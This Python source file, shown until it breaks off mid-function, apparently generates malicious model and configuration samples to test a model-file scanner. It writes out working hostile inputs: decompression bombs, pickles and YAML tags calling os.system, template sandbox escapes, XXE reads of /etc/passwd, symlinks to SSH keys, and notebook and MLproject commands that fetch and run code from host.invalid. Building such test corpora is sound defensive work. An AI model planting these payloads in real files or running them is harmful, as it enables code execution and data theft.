"""More of each class: the same ideas in another place, another encoding or another field than the generators beside this one."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import struct
import tarfile
import zipfile
import zlib
from functools import cache
from typing import TYPE_CHECKING

from corpus.assemble import Build, Call, Name, New, Raw, dump
from corpus.malicious.containers import EVIL, GOOD, QUIET
from corpus.malicious.flat import Table, buffer
from corpus.malicious.graphs import graph_def, node, onnx, onnx_tensor, saved_model, tf_node
from corpus.malicious.keras_zip import archive, function, lambda_, layer, marshalled, model
from corpus.malicious.torch_code import ELF, script
from corpus.packing import (
    Member,
    gguf,
    gguf_text,
    lz4_frame,
    npy,
    plain_zip,
    proto,
    safetensors,
    tarred,
    torch_zip,
    zipped,
    zstd_frame,
)
from corpus.sample import SHELL, Sample, file

if TYPE_CHECKING:
    from collections.abc import Iterator

STATIC = {"static": "needs the framework's own loader"}
EXHAUSTS = {"static": "would exhaust the machine that proves it"}
ACTS = {"static": "acts in the program that reads it"}


def samples() -> Iterator[Sample]:
    """Yield all of them."""
    yield from _bombs()
    yield from _packed()
    yield from _tensors()
    yield from _graphs()
    yield from _trees()
    yield from _archives()
    yield from _code()
    yield from _texts()
    yield from _pickles()
    yield from _containers()
    yield from _others()
    yield from _served()


def deflate(data: bytes, level: int = 9) -> bytes:
    packer = zlib.compressobj(level, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def nested(depth: int, name: str = "model.zip") -> bytes:
    data = plain_zip({"data.pkl": GOOD})
    for _ in range(depth):
        data = plain_zip({name: data})
    return data


def _bombs() -> Iterator[Sample]:
    for name, data in _packed_bombs().items():
        yield file("bomb-archive", name, name, data, "CWE-409", **EXHAUSTS)


@cache
def _packed_bombs() -> dict[str, bytes]:
    """Return bombs by their names; made once, for packing takes seconds."""
    zeros = bytes(66 << 20)
    inner = tarfile.TarInfo("zeros.bin")
    inner.size = len(zeros)
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w:gz") as made:
        made.addfile(inner, io.BytesIO(zeros))
    tar_bytes = tar.getvalue()
    gz = plain_zip({"x": b"x"})
    for _ in range(24):
        gz = gzip.compress(gz, mtime=0)
    return {
        "letters.txt.gz": gzip.compress(b"A" * (66 << 20), mtime=0),
        "spaces.json.bz2": bz2.compress(b" " * (66 << 20)),
        "ones.xz": lzma.compress(b"\xff" * (66 << 20), preset=0),
        "zeros.lzma": lzma.compress(zeros, lzma.FORMAT_ALONE, preset=0),
        "zeros.tar.gz": tar_bytes[:4] + bytes(4) + tar_bytes[8:],
        "gzip-in-gzip.gz": gz,
        "deep-tar.tar": _deep_tar(),
        "bzip2.zip": plain_zip({"data.bin": zeros}, zipfile.ZIP_BZIP2),
        "deflated-twice.zip": plain_zip({"a.zip": plain_zip({"b.bin": bytes(68 << 20)}, 8)}, 8),
        "quine-like.zip": nested(30, "r.zip"),
    }


def _deep_tar() -> bytes:
    data = b"x"
    for _ in range(20):
        data = tarred({"a.tar": data})
    return data


def _packed() -> Iterator[Sample]:
    rows = {
        "raw-deflate-level-1": (deflate(EVIL, 1), "model.bin"),
        "raw-deflate-stored": (deflate(EVIL, 0), "model.z"),
        "raw-deflate-padded": (deflate(EVIL + bytes(1 << 18)), "model.deflate"),
        "zst-of-a-zip": (zstd_frame(plain_zip({"data.pkl": EVIL})), "model.zip.zst"),
        "zst-two-frames": (zstd_frame(b"") + zstd_frame(EVIL), "model.pkl.zst"),
        "zst-then-lz4": (zstd_frame(lz4_frame(EVIL)), "model.bin"),
        "gzip-of-zst": (gzip.compress(zstd_frame(EVIL), mtime=0), "model.pkl.gz"),
        "xz-of-bz2": (lzma.compress(bz2.compress(EVIL)), "model.pkl"),
        "zlib-without-a-checksum": (zlib.compress(EVIL)[:-4], "model.pkl.z"),
        "gzip-with-a-wrong-checksum": (gzip.compress(EVIL, mtime=0)[:-8] + bytes(8), "model.pkl.gz"),
        "gzip-with-a-comment": (b"\x1f\x8b\x08\x10" + bytes(6) + b"a comment\0" + gzip.compress(EVIL, mtime=0)[10:], "model.gz"),
        "zlib-small-window": (_zlib(EVIL, 9), "model.pkl.z"),
    }  # fmt: skip
    for name, (data, filename) in rows.items():
        yield file("compressed", name, filename, data, static="the loader is the user's")


def _zlib(data: bytes, window: int) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, window)
    return packer.compress(data) + packer.flush()


def _tensors() -> Iterator[Sample]:
    def entry(dtype: str, shape: list[int], start: int, end: int) -> dict[str, object]:
        return {"dtype": dtype, "shape": shape, "data_offsets": [start, end]}

    def made(header: object, data: bytes = bytes(16), **more: int) -> bytes:
        return safetensors(json.dumps(header).encode(), data, **more)

    good = entry("U8", [16], 0, 16)
    rows = {
        "type-in-lower-case": made({"a": entry("float32", [4], 0, 16)}),
        "type-of-python": made({"a": entry("object", [2], 0, 16)}),
        "shape-of-a-fraction": safetensors(b'{"a":{"dtype":"U8","shape":[1.5],"data_offsets":[0,16]}}', bytes(16)),
        "offsets-as-text": safetensors(b'{"a":{"dtype":"U8","shape":[16],"data_offsets":["0","16"]}}', bytes(16)),
        "three-offsets": safetensors(b'{"a":{"dtype":"U8","shape":[16],"data_offsets":[0,16,32]}}', bytes(16)),
        "without-a-shape": safetensors(b'{"a":{"dtype":"U8","data_offsets":[0,16]}}', bytes(16)),
        "metadata-is-a-list": made({"__metadata__": ["x"], "a": good}),
        "metadata-holds-numbers": made({"__metadata__": {"a": 1}, "a": good}),
        "two-objects": safetensors(json.dumps({"a": good}).encode() * 2, bytes(16)),
        "a-hole-with-a-pickle": made({"a": entry("U8", [4], 0, 4), "b": entry("U8", [4], 4 + len(EVIL), 8 + len(EVIL))}, bytes(4) + EVIL + bytes(4)),
        "more-keys": safetensors(b'{"a":{"dtype":"U8","shape":[16],"data_offsets":[0,16],"file":"/etc/passwd"}}', bytes(16)),
        "a-list-of-tensors": safetensors(b'[{"name":"a","dtype":"U8","shape":[16],"data_offsets":[0,16]}]', bytes(16)),
    }  # fmt: skip
    for name, data in rows.items():
        yield file("safetensors", name, "model.safetensors", data, static="needs the reader that has the flaw")
    base: dict[str, object] = {"general.architecture": "llama"}
    tensor = gguf_text("a") + struct.pack("<IQIQ", 1, 0, 0, 0)
    gguf_rows = {
        "key-twice": struct.pack("<4sIQQ", b"GGUF", 3, 0, 2) + (gguf_text("general.name") + struct.pack("<I", 8) + gguf_text("x")) * 2,
        "no-dimensions": gguf(base, gguf_text("a") + struct.pack("<IIQ", 0, 0, 0) + bytes(64), 1),
        "dimension-of-zero": gguf(base, tensor + bytes(64), 1),
        "offset-not-aligned": gguf(base, gguf_text("a") + struct.pack("<IQIQ", 1, 4, 0, 5) + bytes(64), 1),
        "name-of-a-megabyte": gguf(base, gguf_text("a" * (1 << 20)) + struct.pack("<IQIQ", 1, 4, 0, 0) + bytes(64), 1),
        "array-of-unknown-kind": gguf({**base, "x": struct.pack("<IIQ", 9, 55, 3) + bytes(12)}),
    }  # fmt: skip
    for name, data in gguf_rows.items():
        yield file("gguf-structure", name, "model.gguf", data, static="needs the reader that has the flaw")
    yield from _npy()
    yield from _flax()


def _npy() -> Iterator[Sample]:
    rows = {
        "object-in-a-record": npy(EVIL, "[('a', '<f8'), ('b', '|O')]"),
        "object-with-a-shape-of-none": npy(EVIL, "'|O'", "()"),
        "header-calls": b"\x93NUMPY\x01\x00" + struct.pack("<H", 64) + b"__import__('os').system('touch hauberk-marker')".ljust(63) + b"\n",
        "version-of-nine": b"\x93NUMPY\x09\x00" + npy(EVIL)[8:],
        "object-by-another-name": npy(EVIL, "'O8'"),
    }  # fmt: skip
    for name, data in rows.items():
        yield file("npy", name, "x.npy", data, static="NumPy of some release")


def _flax() -> Iterator[Sample]:
    def ext(code: int, data: bytes) -> bytes:
        return b"\xc8" + struct.pack(">Hb", len(data), code) + data

    rows = {
        "deep-in-a-map": b"\x81\xa1a" * 500 + b"\x01",
        "text-length-overflow": b"\x81\xa1a\xdb\xff\xff\xff\xff",
        "extension-length-overflow": b"\x81\xa1a\xc9\xff\xff\xff\xff\x01",
        "map-in-a-map-overflow": b"\x81\xa1a\xdf\xff\xff\xff\xff",
        "reserved-byte": b"\x81\xa1a\xc1",
        "array-of-a-structure": b"\x81\xa1a" + ext(1, b"\x93\x91\x01\xa4|V16\xc4\x10" + bytes(16)),
        "array-without-bytes": b"\x81\xa1a" + ext(1, b"\x92\x91\x01\xa7float32"),
        "scalar-of-an-object": b"\x81\xa1a" + ext(3, b"\x93\x90\xa1O\xc4" + bytes([len(EVIL)]) + EVIL),
        "elf-behind": b"\x81\xa1a\x01" + ELF,
        "pickle-in-a-binary": b"\x81\xa1a\xc4" + bytes([len(EVIL)]) + EVIL + EVIL,
    }
    for name, data in rows.items():
        yield file("flax", name, "flax_model.msgpack", data, **STATIC)


def tf_text(name: str, *texts: str, packed: bool = False) -> bytes:
    """Return a constant of texts, as values or as `tensor_content`."""
    content = b"".join(bytes([len(text)]) for text in texts) + "".join(texts).encode()
    held = [(4, content)] if packed else [(8, text) for text in texts]
    value = proto((8, proto((1, 7), (2, b""), *held)))
    return proto(
        (1, name), (2, "Const"), (5, proto((1, "dtype"), (2, proto((6, 7))))), (5, proto((1, "value"), (2, value)))
    )


def _graphs() -> Iterator[Sample]:
    external = {
        "offset-beyond-a-sibling": onnx([node("Add")], [onnx_tensor("w", "weights.bin", offset="4096", length="4096")]),
        "offset-beyond-every-file": onnx(
            [node("Add")], [onnx_tensor("w", "weights.bin", offset=str(1 << 62), length="16")]
        ),
    }
    for name, data in external.items():
        yield Sample("onnx-external", name, {"model.onnx": data, "weights.bin": bytes(range(16))}, **STATIC)
    for name, target in {
        "link-of-a-folder": ("data", "/etc"),
        "link-up": ("data", "../../../../../etc"),
        "link-to-a-key": ("w.bin", "/root/.ssh/id_rsa"),
    }.items():
        path = f"{target[0]}/passwd" if target[0] == "data" else target[0]
        yield Sample(
            "onnx-external",
            name,
            {"model.onnx": onnx([node("Add")], [onnx_tensor("w", path)])},
            "CVE-2026-34447",
            links=dict([target]),
            **STATIC,
        )
    tensor = proto((1, (1 << 64) - 4), (2, 1), (8, "w"), (9, bytes(16)))
    structure = {
        "negative-dimension": onnx([node("Add")], [tensor]),
        "raw-data-too-short": onnx([node("Add")], [proto((1, 1 << 20), (2, 1), (8, "w"), (9, bytes(16)))]),
        "functions-without-end": _functions(),
        "dimension-of-2-to-the-63": onnx([node("Add")], [proto((1, 1 << 63), (2, 1), (8, "w"), (9, b""))]),
        "metadata-then-elf": onnx([node("Add")], []) + ELF,
        "gzip-behind": onnx([node("Add")], []) + gzip.compress(EVIL, mtime=0),
    }
    for name, data in structure.items():
        yield file("onnx-structure", name, "model.onnx", data, **STATIC)
    operators = {
        "PyCustomOp": ("PyCustomOp", "ai.onnx.contrib"), "in-a-domain-like-ours": ("Add", "ai.onnx.evil"),
        "domain-with-a-blank": ("Add", " "), "in-upper-case": ("Add", "AI.ONNX"), "Triton": ("TritonOp", "com.microsoft"),
    }  # fmt: skip
    for name, (kind, domain) in operators.items():
        yield file(
            "onnx-operator",
            name,
            "model.onnx",
            onnx([node(kind, domain)], [], (8, proto((1, domain), (2, 1)))),
            **STATIC,
        )
    yield from _tensorflow()
    yield from _openvino()


def _functions() -> bytes:
    inner = proto((2, "s"))
    for _ in range(120):
        inner = proto((1, node("Loop", "", proto((1, "body"), (6, inner), (20, 5)))), (2, "s"))
    return onnx(
        [node("f", "local")],
        [],
        (25, proto((1, "f"), (7, node("If", "", proto((1, "else_branch"), (6, inner), (20, 5)))), (10, "local"))),
    )


def _tensorflow() -> Iterator[Sample]:
    rows = {
        "saves-to-a-start-up-file": graph_def(tf_text("c", ".bashrc"), tf_node("x", "SaveV2", "c", "n", "s", "t")),
        "path-in-tensor-content": graph_def(tf_text("c", "/root/.bashrc", packed=True), tf_node("x", "SaveV2", "c", "n", "s", "t")),
        "path-joined": graph_def(tf_text("a", "/et"), tf_text("b", "c/cron.d/x"), tf_node("c", "StringJoin", "a", "b"), tf_node("x", "Save", "c", "n", "t")),
        "vocabulary-decoded": graph_def(tf_text("a", "L2V0Yy9wYXNzd2Q="), tf_node("c", "DecodeBase64", "a"), tf_node("x", "InitializeTableFromTextFileV2", "t", "c")),
        "vocabulary-of-the-machine": graph_def(tf_text("c", "/etc/passwd", packed=True), tf_node("x", "InitializeTableFromTextFileV2", "t", "c")),
        "restores-from-a-share": graph_def(tf_text("c", "//host.invalid/share/x"), tf_node("x", "RestoreV2", "c", "n", "s")),
        "cache-in-a-folder": graph_def(tf_text("c", "/var/www/html/x"), tf_node("x", "CacheDatasetV2", "d", "c", "m")),
        "nested-function": graph_def(library=proto((1, proto((1, proto((1, "f"))), (3, tf_node("y", "g", "a")))), (1, proto((1, proto((1, "g"))), (3, tf_node("x", "ReadFile", "a")))))),
    }  # fmt: skip
    for name, graph in rows.items():
        yield Sample("saved-model", name, {"saved_model.pb": saved_model(graph)}, **STATIC)
        if "path" in name or "nested" in name:
            yield file("graph-def", name, "frozen_graph.pb", graph, **STATIC)
    tensor = Table(([1], ("<b", 5), ("<I", 1), "path"))
    code = Table((("<b", 32), "FlexSaveV2", ("<i", 1), ("<i", 32)))
    graph = Table(([tensor], [0], [0], [Table((("<I", 0), [0], [0]))], "main"))
    text = struct.pack("<III", 1, 12, 24) + b"/root/.bashrc"
    yield file(
        "tflite",
        "flex-save-with-a-path",
        "model.tflite",
        buffer(Table((("<I", 3), [code], [graph], "x", [Table(()), Table((text,))])), b"TFL3"),
        **STATIC,
    )


def _openvino() -> Iterator[Sample]:
    xml = '<?xml version="1.0"?><net name="x" version="11"><layers><layer id="0" name="a" type="{t}" version="{v}"><data {d}/></layer></layers></net>'
    rows = {
        "offset-beyond": xml.format(t="Const", v="opset1", d='element_type="f32" shape="4" offset="4096" size="16"'),
        "size-wraps": xml.format(
            t="Const", v="opset1", d='element_type="f32" shape="4" offset="18446744073709551600" size="32"'
        ),
        "size-below-zero": xml.format(t="Const", v="opset1", d='element_type="f32" shape="4" offset="0" size="-16"'),
        "size-of-letters": xml.format(t="Const", v="opset1", d='element_type="f32" shape="4" offset="0" size="0x10"'),
        "layer-of-a-library": xml.format(t="Evil", v="com.evil", d=""),
        "entity": xml.format(t="Const", v="opset1", d='offset="0" size="16"').replace(
            "<net", "<!DOCTYPE net [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><net"
        ),
    }
    for name, text in rows.items():
        yield Sample("openvino", name, {"model.xml": text.encode(), "model.bin": bytes(range(16))}, **STATIC)


def _trees() -> Iterator[Sample]:
    head = '{"learner":{"attributes":{},"feature_names":[],"feature_types":[],"gradient_booster":{"model":{"gbtree_model_param":{"num_trees":"%s"},"tree_info":[%s],"trees":[%s]},"name":"gbtree"},"learner_model_param":{"num_class":"0","num_feature":"2"},"objective":{"name":"reg:squarederror"}},"version":[3,2,0]}'
    tree = '{"left_children":[%s],"right_children":[%s],"parents":[2147483647,0,0],"split_indices":[%s],"split_conditions":[0.5,1,2],"tree_param":{"num_nodes":"%s","num_feature":"2"},"categories":[],"id":0}'
    rows = {
        "json-feature-beyond": head % ("1", "0", tree % ("1,-1,-1", "2,-1,-1", "77,0,0", "3")),
        "json-child-is-its-parent": head % ("1", "0", tree % ("1,0,-1", "2,0,-1", "0,0,0", "3")),
        "json-output-beyond": head % ("1", "9", tree % ("1,-1,-1", "2,-1,-1", "0,0,0", "3")),
        "json-child-below": head % ("1", "0", tree % ("1,-1,-1", "-7,-1,-1", "0,0,0", "3")),
        "json-trees-below-zero": head % ("-1", "0", tree % ("1,-1,-1", "2,-1,-1", "0,0,0", "3")),
        "json-lists-of-two-lengths": head % ("1", "0", tree % ("1,-1,-1,5", "2,-1,-1", "0,0,0", "3")),
    }
    for name, text in rows.items():
        yield file("xgboost", name, "model.json", text.encode(), **STATIC)

    def key(name: str) -> bytes:
        return b"L" + struct.pack(">q", len(name)) + name.encode()

    ubj = {
        "ubjson-text-of-2-gigabytes": b"{" + key("learner") + b"Sl\x7f\xff\xff\xffx}",
        "ubjson-key-overflow": b"{" + key("learner") + b"{L\x7f\xff\xff\xff\xff\xff\xff\xffx",
        "ubjson-zip-behind": b"{" + key("learner") + b"{}}" + plain_zip({"data.pkl": EVIL}),
    }
    for name, data in ubj.items():
        yield file("xgboost", name, "model.ubj", data, **STATIC)
    cat = {
        "size-of-minus-one": b"CBM1" + struct.pack("<I", 0x80000000) + bytes(64),
        "fields-beyond": b"CBM1" + struct.pack("<IIi", 64, 4, -5000) + bytes(56),
        "zip-behind": b"CBM1"
        + struct.pack("<I", 64)
        + struct.pack("<IHHi", 8, 4, 8, 4)
        + bytes(52)
        + plain_zip({"data.pkl": EVIL}),
        "elf-behind": b"CBM1" + struct.pack("<I", 64) + struct.pack("<IHHi", 8, 4, 8, 4) + bytes(52) + ELF,
        "pickle-behind-a-cut-length": b"CBM1"
        + struct.pack("<I", 1 << 20)
        + struct.pack("<IHHi", 8, 4, 8, 4)
        + bytes(52)
        + EVIL,
    }
    for name, data in cat.items():
        yield file("catboost", name, "model.cbm", data, **STATIC)
    light = "tree\nversion=v4\nnum_class={classes}\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=1\nobjective=regression\nfeature_names=a b\nfeature_infos=none none\ntree_sizes={size}\n\nTree=0\nnum_leaves=2\nnum_cat={cat}\nsplit_feature=0\nthreshold=0.5\nleft_child={left}\nright_child=-2\nleaf_value={leaf}\n\n\nend of trees\n"
    rows = {
        "child-is-itself": light.format(classes=1, size=300, cat=0, left=0, leaf="1 2"),
        "categories-lie": light.format(classes=1, size=300, cat=99999, left=-1, leaf="1 2"),
        "leaves-missing": light.format(classes=1, size=300, cat=0, left=-1, leaf="1"),
        "leaf-below": light.format(classes=1, size=300, cat=0, left=-99999, leaf="1 2"),
        "size-below-zero": light.format(classes=1, size=-5, cat=0, left=-1, leaf="1 2"),
    }
    for name, text in rows.items():
        yield file("lightgbm", name, "model.txt", text.encode(), **STATIC)


def _archives() -> Iterator[Sample]:
    for name, target in {
        "hub-like": "../../blobs/../../../../etc/passwd",
        "home": "/home/ada/.ssh/id_rsa",
        "parent-folder": "..",
    }.items():
        yield Sample(
            "links",
            f"tree-{name}",
            {"config.json": b"{}", "model.pkl": GOOD},
            links={"extra": target},
            static="opened by whoever opens the folder",
        )
    yield Sample(
        "links",
        "tree-nested",
        {"config.json": b"{}", "sub/model.pkl": GOOD},
        links={"sub/w.bin": "../../w.bin"},
        static="opened by whoever opens the folder",
    )
    rows = {
        "method-of-nobody": zipped(Member("archive/data.pkl", EVIL, method=50), Member("archive/version", b"3\n")),
        "method-lies-in-one": zipped(
            Member("archive/data.pkl", EVIL, method=0, local_method=99), Member("archive/version", b"3\n")
        ),
        "size-of-four-gigabytes": zipped(
            Member("archive/data.pkl", EVIL, method=8, central_size=0xFFFFFFFE), Member("archive/version", b"3\n")
        ),
        "count-of-none": zipped(Member("archive/data.pkl", EVIL), count=0),
        "comment-is-a-zip": zipped(Member("archive/data.pkl", GOOD), comment=plain_zip({"archive/data.pkl": EVIL})),
    }
    for name, data in rows.items():
        yield file("zip-lies", name, "model.pt", data, static="depends on the zip reader of the framework")
    twice = io.BytesIO()
    with tarfile.open(fileobj=twice, mode="w") as made:
        for data in (GOOD, EVIL):
            info = tarfile.TarInfo("model.pkl")
            info.size = len(data)
            made.addfile(info, io.BytesIO(data))
    yield file("tar", "member-twice", "model.tar", twice.getvalue(), static="the last member wins")
    yield file("tar", "zst", "model.tar.zst", zstd_frame(tarred({"model.pkl": EVIL})), static="unpacked first")
    yield file(
        "tar", "size-overflow", "model.tar", _tar_size(tarred({"model.pkl": EVIL})), static="depends on the reader"
    )
    for name, packed in {"zst": zstd_frame(EVIL), "lz4": lz4_frame(EVIL), "xz": lzma.compress(EVIL)}.items():
        yield file(
            "nested-archive",
            f"zip-of-{name}",
            "model.zip",
            plain_zip({f"model.pkl.{name}": packed}),
            static="unpacked first",
        )


def _tar_size(data: bytes) -> bytes:
    head = bytearray(data)
    head[124:136] = b"77777777777\0"
    head[148:156] = b" " * 8
    head[148:156] = b"%06o\0 " % sum(head[:512])
    return bytes(head)


def _code() -> Iterator[Sample]:
    for name, source in {
        "aten-open": b'_0 = ops.aten.open("/etc/passwd")', "torch-ops-space": b"_0 = torch.ops.evil.run(x)",
        "class-of-a-library": b"_0 = __torch__.torch.classes.evil.Runner.__new__(x)",
        "rpc": b'_0 = torch.rpc_sync("host", x)',
    }.items():  # fmt: skip
        yield file("torchscript", name, "model.pt", plain_zip(script(source)), **STATIC)
    layers = {
        "lambda-in-a-bidirectional": layer(
            "keras.layers", "Bidirectional", {"name": "b", "layer": lambda_(marshalled())}
        ),
        "regularizer-of-another-module": {
            **layer("keras.layers", "Dense", {"name": "d", "units": 1, "kernel_regularizer": function("os", "system")})
        },
        "function-of-importlib": lambda_(function("importlib", "import_module")),
        "metric-of-builtins": layer("builtins", "exec", {"source": "1"}),
        "preprocessing-reads": layer("keras.layers", "StringLookup", {"name": "s", "vocabulary": "../../secret.txt"}),
        "class-by-a-path": layer("keras.src.legacy.backend", "os.popen", {}),
    }
    for name, evil in layers.items():
        yield file("keras-v3", name, "model.keras", plain_zip(archive(model(evil))), **STATIC)
    yield file(
        "aotinductor",
        "library-without-a-name",
        "model.pt2",
        plain_zip({"archive_format": b"pt2", "data/aotinductor/model/x.wrapper": ELF}),
        **STATIC,
    )


def _texts() -> Iterator[Sample]:
    templates = {
        "attribute-in-a-variable": "{% set a = '__class__' %}{{ [messages]|map(attribute=a)|list }}",
        "selectattr": "{{ [messages]|selectattr('__class__')|list }}",
        "groupby": "{{ [messages]|groupby('__class__.__base__')|list }}",
        "sort-by-a-dunder": "{{ [messages]|sort(attribute='__class__') }}",
        "joined-name": "{{ messages[['__cla', 'ss__']|join] }}",
        "reversed-name": "{{ messages['__ssalc__'[::-1]] }}",
        "format-of-a-variable": "{% set f = '{0.__init__}' %}{{ f.format(messages) }}",
        "macro-caller": "{% macro m() %}{{ caller.__globals__ }}{% endmacro %}{{ m() }}",
        "string-of-hex": "{{ messages['\\x5f\\x5fclass\\x5f\\x5f'] }}",
        "power": "{{ 9 ** 9 ** 9 }}",
        "repeated-text": "{{ 'x' * 9999999999 }}",
    }
    for name, text in templates.items():
        config = json.dumps({"chat_template": text}).encode()
        yield Sample("hugging-face", f"template-{name}", {"tokenizer_config.json": config}, **ACTS)
        yield file(
            "gguf-template",
            name,
            "model.gguf",
            gguf({"general.architecture": "llama", "tokenizer.chat_template": text}),
            **ACTS,
        )

    def laughs(levels: int, lines: bool = False) -> str:
        text, before = "", "x"
        for level in range(levels):
            items = "".join(f"\n- {before}" for _ in range(9)) if lines else f"[{','.join([before] * 9)}]"
            text += f"k{level}: &a{level} {items}\n"
            before = f"*a{level}"
        return text

    yaml = {
        "laughs-in-lines": laughs(9, lines=True),
        "laughs-of-maps": "a: &a {x: 1}\n"
        + "".join(
            f"{chr(98 + i)}: &{chr(98 + i)} {{{', '.join(f'k{n}: *{chr(97 + i)}' for n in range(9))}}}\n"
            for i in range(9)
        ),
        "tag-in-a-flow": "a: [1, {b: !!python/object/apply:os.system [id]}]\n",
        "tag-behind-a-handle": "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [id]\n",
        "tag-verbatim": "a: !<tag:yaml.org,2002:python/object/new:os.system> [id]\n",
        "second-document": "a: 1\n---\nb: !!python/name:os.system\n",
    }
    for name, text in yaml.items():
        yield file("yaml", name, "config.yaml", text.encode(), **ACTS)
    hydra = {
        "target-in-a-list": "callbacks:\n- _target_: os.system\n  _args_: [id]\n",
        "target-quoted": '"_target_": "subprocess.Popen"\nargs: [id]\n',
        "target-escaped": '"\\x5ftarget\\x5f": os.system\n',
        "target-in-json": '{"model": {"_target_": "builtins.eval", "_args_": ["1"]}}',
    }
    for name, text in hydra.items():
        yield file("hydra", name, "config.json" if "json" in name else "config.yaml", text.encode(), **ACTS)
    commands = {
        "mlproject-python-c": "name: x\nentry_points:\n  main:\n    command: 'python -c \"import os; os.system(chr(105))\"'\n",
        "mlproject-downloads": "name: x\nentry_points:\n  main:\n    command: 'wget -q http://host.invalid/x -O x && sh x'\n",
        "mlproject-docker": "name: x\ndocker_env:\n  image: host.invalid/evil\n  volumes: ['/:/host']\nentry_points: {main: {command: 'python t.py'}}\n",
    }
    for name, text in commands.items():
        yield file("mlflow", name, "MLproject", text.encode(), **ACTS)
    requirements = {
        "trusted-host": "--trusted-host host.invalid\n-i http://host.invalid/simple\nnumpy\n",
        "find-links": "--find-links http://host.invalid/wheels\nnumpy\n",
        "wheel-by-address": "numpy @ https://host.invalid/numpy-9.whl\n",
        "egg-over-http": "http://host.invalid/evil.tar.gz\n",
    }
    for name, text in requirements.items():
        yield file("requirements", name, "requirements.txt", text.encode(), **ACTS)
    xml = {
        "entity-in-an-attribute": "<!DOCTYPE p [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><PMML version='4.4' x='&x;'/>",
        "parameter-in-a-value": "<!DOCTYPE p [<!ENTITY % a SYSTEM 'file:///etc/passwd'><!ENTITY % b \"<!ENTITY c SYSTEM 'http://host.invalid/?%a;'>\">%b;]><PMML/>",
        "include-behind-a-comment": "<!-- x --><PMML xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='http://host.invalid/'/></PMML>",
    }
    for name, text in xml.items():
        yield file("xml", name, "model.pmml", text.encode(), **ACTS)
    yield from _notebooks()


def _notebooks() -> Iterator[Sample]:
    def book(source: str, outputs: list[object] | None = None, kind: str = "code", **metadata: object) -> bytes:
        cell = {
            "cell_type": kind,
            "metadata": {},
            "source": [source],
            **({"execution_count": 1, "outputs": outputs or []} if kind == "code" else {}),
        }
        return json.dumps({"cells": [cell], "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}).encode()

    def shown(kind: str, text: str) -> list[object]:
        return [{"output_type": "display_data", "metadata": {}, "data": {kind: text}}]

    rows = {
        "svg-handler": book("1", shown("image/svg+xml", "<svg onload='fetch(1)'/>")),
        "svg-foreign-object": book(
            "1", shown("image/svg+xml", "<svg><script xlink:href='http://host.invalid/x.js'/></svg>")
        ),
        "html-meta-refresh": book(
            "1", shown("text/html", "<meta http-equiv='refresh' content='0;url=http://host.invalid/'>")
        ),
        "html-form": book(
            "1", shown("text/html", "<form action='http://host.invalid/'><input name=p type=password></form>")
        ),
        "html-object": book("1", shown("text/html", "<object data='http://host.invalid/x.swf'></object>")),
        "html-script-source": book("1", shown("text/html", "<script src='http://host.invalid/x.js'></script>")),
        "widget-view-module": book(
            "1",
            widgets={
                "application/vnd.jupyter.widget-state+json": {
                    "state": {"a": {"state": {"_view_module": "https://host.invalid/x.js"}}}
                }
            },
        ),
        "magic-of-a-shell": book("%%bash\ncurl http://host.invalid/x | bash"),
        "exec-of-hex": book("exec(bytes.fromhex('7072696e742831293b'))"),
        "exec-of-zlib": book("import zlib,base64;exec(zlib.decompress(base64.b64decode('eJw=')))"),
    }
    for name, data in rows.items():
        yield file("notebook", name, "train.ipynb", data, **ACTS)


def _pickles() -> Iterator[Sample]:
    call = Call("posix", "system", (SHELL,))
    rows = {
        ("stream-stack", "call-in-a-key"): dump({call: 1}),
        ("stream-stack", "call-in-a-frozenset"): dump(Raw(b"(" + dump(call, 4)[2:-1] + b"\x91")),
        ("stream-state", "state-of-a-list"): dump(Build(New(Name("collections", "OrderedDict")), [call])),
        ("stream-state", "slots-of-a-pair"): dump(Build(New(Name("collections", "OrderedDict")), (None, {"x": call}))),
        ("stream-nested", "pickle-in-a-bytearray"): dump(Call("pickle", "loads", (Call("builtins", "bytearray", (EVIL,)),))),
        ("stream-several", "third-stream"): GOOD + GOOD + EVIL,
        ("stream-offset", "behind-spaces"): b" " * 64 + EVIL,
        ("stream-offset", "behind-a-length"): struct.pack("<Q", len(EVIL)) + EVIL,
        ("stream-offset", "behind-a-magic"): b"MYMODEL1" + bytes(24) + EVIL,
        ("stream-offset", "between-arrays"): bytes(range(256)) * 16 + EVIL + bytes(range(256)) * 16,
        ("stream-offset", "protocol-0-behind-zeros"): bytes(32) + f"cposix\nsystem\n(S'{SHELL}'\ntR.".encode(),
        ("stream-offset", "protocol-2-behind-a-header-of-json"): b'{"version": 1}\n' + dump(call, 2),
        ("stream-broken-tail", "cut-in-a-text"): dump((call, "x" * 100))[:-40],
        ("torch-zip", "call-in-a-quiet-member"): torch_zip(GOOD, more={"extra/hook.pkl": QUIET}),
        ("torch-zip", "pickle-as-a-storage"): torch_zip(GOOD, more={"data/1": EVIL}),
        ("joblib", "array-of-objects-inside"): dump(Call("joblib.numpy_pickle", "load", ("/tmp/x",))),
    }  # fmt: skip
    for (group, name), data in rows.items():
        filename = "model.pt" if group.startswith("torch") else "model.pkl"
        yield file(group, name, filename, data, static="the same call as beside it, which is proved")


def _containers() -> Iterator[Sample]:
    info = dump({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2)
    magic, version = dump(0x1950A86A20F9469CFC6C, 2), dump(1001, 2)
    legacy = {
        "call-in-the-system-info": magic + version + dump({"protocol_version": Call("posix", "system", (SHELL,))}, 2) + GOOD + dump([], 2),
        "call-in-the-keys": magic + version + info + GOOD + dump([Call("posix", "system", (SHELL,))], 2),
        "call-in-the-version": magic + dump(Call("posix", "system", (SHELL,)), 2) + info + GOOD + dump([], 2),
        "behind-the-storages": magic + version + info + GOOD + dump([], 2) + bytes(16) + EVIL,
    }  # fmt: skip
    for name, data in legacy.items():
        yield file("torch-legacy", name, "model.pt", data, static="the same call as beside it, which is proved")
    zips = {
        "byteorder-is-a-pickle": torch_zip(GOOD, more={".data/serialization_id": EVIL}),
